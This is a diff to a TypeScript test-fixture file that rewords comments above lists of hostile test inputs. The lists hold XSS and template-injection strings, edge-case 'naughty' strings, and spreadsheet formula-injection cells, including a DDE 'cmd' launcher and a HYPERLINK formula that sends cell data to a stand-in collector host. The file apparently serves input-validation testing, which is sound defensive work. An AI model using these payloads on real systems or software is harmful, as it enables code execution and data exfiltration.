@@ -1,4 +1,4 @@
-/** Markup and addresses that run a script where they are put into a page unguarded. */
+/** Markup and addresses that run a script when inserted into a page unescaped. */
 export const OWN_SCRIPTS: readonly string[] = [
   '<script>alert(1)</script>',
   '"><script>alert(1)</script>',
@@ -22,7 +22,7 @@ export const OWN_SCRIPTS: readonly string[] = [
   '{{constructor.constructor("alert(1)")()}}',
 ];
 
-/** Text that programs stumble over: control and format characters, scripts, formats, reserved words. */
+/** Text that often breaks programs: control and format characters, scripts, formats, reserved words. */
 export const OWN_NAUGHTY_STRINGS: readonly string[] = [
   'undefined',
   'null',
@@ -46,7 +46,7 @@ export const OWN_NAUGHTY_STRINGS: readonly string[] = [
   '"\\\'`',
 ];
 
-/** Cells that a spreadsheet would take for a formula. */
+/** Cells that a spreadsheet would read as a formula. */
 export const OWN_FORMULA_CELLS: readonly string[] = [
   "=cmd|' /C calc'!A0",
   '=HYPERLINK("http://collector.example/?d="&A1,"open")',
@@ -58,7 +58,7 @@ export const OWN_FORMULA_CELLS: readonly string[] = [
   ';=1+1',
 ];
 
-/** JSON documents by name, as the suite of others names them: y_ is valid, n_ is not, i_ is up to the reader. */
+/** JSON documents, named like those of JSONTestSuite: y_ is valid, n_ is invalid, i_ is implementation-defined. */
 export const OWN_JSON_FILES: Readonly<Record<string, string>> = {
   'y_own_empty_object.json': '{}',
   'y_own_nested.json': '{"a":[{"b":[null,true,-0.5e-3,"\\u00e9"]}]}',
